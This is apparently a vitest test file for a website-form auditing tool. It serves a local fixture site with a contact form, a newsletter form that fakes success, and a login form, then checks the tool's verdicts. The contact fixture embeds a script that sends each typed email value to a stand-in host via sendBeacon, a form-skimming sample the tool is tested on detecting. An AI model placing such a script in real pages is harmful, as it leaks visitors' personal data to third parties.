import { reportSchema, siteProofSchema } from '@operable/core/schema'
import { afterAll, afterEach, beforeAll, expect, test, vi } from 'vitest'
import { testBrowser } from '../../test/browser.ts'
import { type LoopbackSite, loopbackSite } from '../../test/loopback-site.ts'
import { audit } from '../services/audit-site.ts'
import { runHere } from './testing/run-here.ts'

// The real command and the real browser, on a site with an honest form, a liar and a login.

let site: LoopbackSite

const page = (title: string, form: string) =>
  `<!doctype html><html lang="en"><title>${title}</title><h1>${title}</h1>
  <nav><a href="/">Contact</a> <a href="/news">News</a> <a href="/account">Account</a></nav>
  <p>We repair bicycles, sell used ones, and answer every question within a working day.</p>${form}</html>`

const contact = `<form id="contact" method="post" action="/send" aria-label="Write to us">
  <input type="hidden" name="token" value="0123456789abcdef">
  <label>Your name <input name="name" required></label>
  <label>Email <input type="email" name="email" required></label>
  <label>Message <textarea name="message" required></textarea></label>
  <button>Send</button></form>
  <script>
    document.querySelector('[name=email]').addEventListener('input', (event) => {
      navigator.sendBeacon('http://replay.example/collect', event.target.value)
    })
  </script>`

const news = `<form id="news" aria-label="Newsletter">
  <label>Email <input type="email" name="email" required></label><button>Subscribe</button></form>
  <p role="status"></p>
  <script>
    document.querySelector('#news').addEventListener('submit', (event) => {
      event.preventDefault()
      document.querySelector('[role=status]').textContent = 'Thank you! You are subscribed.'
    })
  </script>`

const account = `<form id="login" method="post" action="/login" aria-label="Log in">
  <label>Email <input type="email" name="email" required></label>
  <label>Password <input type="password" name="password" required></label><button>Log in</button></form>`

beforeAll(async () => {
  site = await loopbackSite({
    '/': page('Contact', contact),
    '/news': page('News', news),
    '/account': page('Account', account),
  })
})

afterAll(() => site.close())
afterEach(() => vi.unstubAllEnvs())

test('every form is tried, and the server never hears of it', { timeout: 240_000 }, async () => {
  const words = ['prove', `127.0.0.1:${site.port}`, '--allow-private', '--json']
  const { code, stdout, stderr } = await runHere(words, { CHROMIUM_PATH: await testBrowser() })
  const { proofs, notTried } = siteProofSchema.parse(JSON.parse(stdout))

  expect(proofs.map(({ selector, verdict, reason }) => [selector, verdict, reason])).toEqual([
    ['#contact', 'proven', 'sent_once'],
    ['#login', 'needs_person', 'person_required'],
    ['#news', 'refuted', 'thanks_without_request'],
  ])
  expect(notTried).toEqual([])
  expect({ code, stderr }).toEqual({ code: 1, stderr: 'operable: 1 form is refuted.\n' })
  expect(site.requests.filter((request) => !request.startsWith('GET '))).toEqual([])
  expect(proofs.map(({ bytesSent }) => bytesSent)).toEqual([0, 0, 0])

  const [{ request, typed, readers }] = proofs as [(typeof proofs)[number]]
  expect(request).toMatchObject({ method: 'POST', url: `http://127.0.0.1:${site.port}/send`, encoding: 'urlencoded' })
  expect(request?.fields.map(({ name, is, value }) => [name, is, value])).toEqual([
    ['token', 'preset', undefined],
    ...typed.map(({ key, value }) => [key, 'typed', value]),
  ])
  expect(readers).toEqual([{ host: 'replay.example', keys: ['email'], when: 'before', as: 'raw' }])
})

test('the library does the same with an audit', { timeout: 240_000 }, async () => {
  vi.stubEnv('CHROMIUM_PATH', await testBrowser())
  site.requests.length = 0
  const tried: string[] = []
  const report = await audit(`http://127.0.0.1:${site.port}/news`, {
    allowPrivate: true,
    maxPages: 1,
    prove: { onProof: ({ selector }) => tried.push(selector) },
  })
  expect(reportSchema.parse(report)).toMatchObject({
    proofs: [{ selector: '#news', verdict: 'refuted' }],
    hintChecks: [],
  })
  expect(tried).toEqual(['#news'])
  expect(site.requests.filter((request) => !request.startsWith('GET '))).toEqual([])
})
